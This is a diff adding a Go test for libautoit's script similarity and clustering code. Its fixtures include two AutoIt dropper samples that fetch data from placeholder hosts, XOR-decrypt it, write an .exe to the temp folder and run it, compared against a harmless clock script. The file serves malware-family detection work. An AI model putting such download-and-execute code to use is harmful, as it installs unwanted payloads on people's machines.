@@ -0,0 +1,99 @@
+package tests
+
+import (
+	"github.com/x0r19x91/libautoit"
+	"github.com/x0r19x91/libautoit/parser"
+	"github.com/x0r19x91/libautoit/similarity"
+	"io/ioutil"
+	"testing"
+)
+
+const familyA = `Global $sKey = "k3y", $sUrl = "http://a.example/x"
+Local $sData = _Decrypt(InetRead($sUrl), $sKey)
+FileWrite(@TempDir & "\a.exe", $sData)
+Run(@TempDir & "\a.exe")
+
+Func _Decrypt($sIn, $sPass)
+	Local $sOut = ""
+	For $i = 1 To StringLen($sIn)
+		$sOut &= Chr(BitXOR(Asc(StringMid($sIn, $i, 1)), Asc(StringMid($sPass, Mod($i, StringLen($sPass)) + 1, 1))))
+	Next
+	Return $sOut
+EndFunc
+`
+
+// familyA renamed, with other literals and layout
+const familyB = `Global   $q1 = "other", $q2 = "http://b.example/y"
+Local $q3 = Fqx7zj(InetRead($q2),   $q1)
+FileWrite(@TempDir & "\b.exe",   $q3)
+Run(@TempDir & "\b.exe")
+Func Fqx7zj($z1, $z2)
+Local $z3 = ""
+For $z4 = 2 To StringLen($z1)
+$z3 &= Chr(BitXOR(Asc(StringMid($z1, $z4, 1)), Asc(StringMid($z2, Mod($z4, StringLen($z2)) + 1, 1))))
+Next
+Return $z3
+EndFunc
+`
+
+const unrelated = `#include <GUIConstantsEx.au3>
+Local $hGUI = GUICreate("Clock", 200, 100)
+Local $idLabel = GUICtrlCreateLabel("", 10, 10, 180, 20)
+GUISetState(@SW_SHOW, $hGUI)
+While GUIGetMsg() <> $GUI_EVENT_CLOSE
+	GUICtrlSetData($idLabel, @HOUR & ":" & @MIN & ":" & @SEC)
+	Sleep(250)
+WEnd
+`
+
+func fileOf(src string) *libautoit.AutoItFile {
+	return &libautoit.AutoItFile{Resources: []*libautoit.AutoItResource{{
+		Tag:   ">>>AUTOIT SCRIPT<<<",
+		Data:  []byte(src),
+		State: libautoit.Au3Decompressed,
+	}}}
+}
+
+func TestSimilarity(t *testing.T) {
+	a := similarity.FromTokens(parser.NewSourceTokenizer([]byte(familyA)))
+	b := similarity.FromTokens(parser.NewSourceTokenizer([]byte(familyB)))
+	c := similarity.FromTokens(parser.NewSourceTokenizer([]byte(unrelated)))
+	if s := a.Similarity(b); s != 1 {
+		t.Errorf("renamed copy: similarity %v", s)
+	}
+	if s := a.Similarity(c); s > 0.2 {
+		t.Errorf("unrelated: similarity %v", s)
+	}
+	if len(a.Funcs) != 1 || a.Funcs[0].Name != "_Decrypt" || b.Funcs[0].Name != "Fqx7zj" {
+		t.Errorf("funcs %+v %+v", a.Funcs, b.Funcs)
+	}
+	if s := a.FuncSimilarity(b, 10); s != 1 {
+		t.Errorf("func similarity %v", s)
+	}
+
+	d, err := similarity.ParseDigest(a.Digest())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d.Similarity(b) != 1 || d.Tokens != a.Tokens {
+		t.Error("digest round trip")
+	}
+	if _, err := similarity.ParseDigest("mh1:xyz"); err != similarity.ErrBadDigest {
+		t.Errorf("bad digest accepted: %v", err)
+	}
+
+	files := []*libautoit.AutoItFile{fileOf(familyA), fileOf(unrelated), fileOf(familyB)}
+	data, err := ioutil.ReadFile("Clock.exe")
+	if err != nil {
+		t.Fatal(err)
+	}
+	clock, err := libautoit.GetScripts(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	files = append(files, clock)
+	groups := libautoit.Cluster(files, 0.7)
+	if len(groups) != 3 || len(groups[0]) != 2 || groups[0][1] != files[2] {
+		t.Errorf("clusters %v", groups)
+	}
+}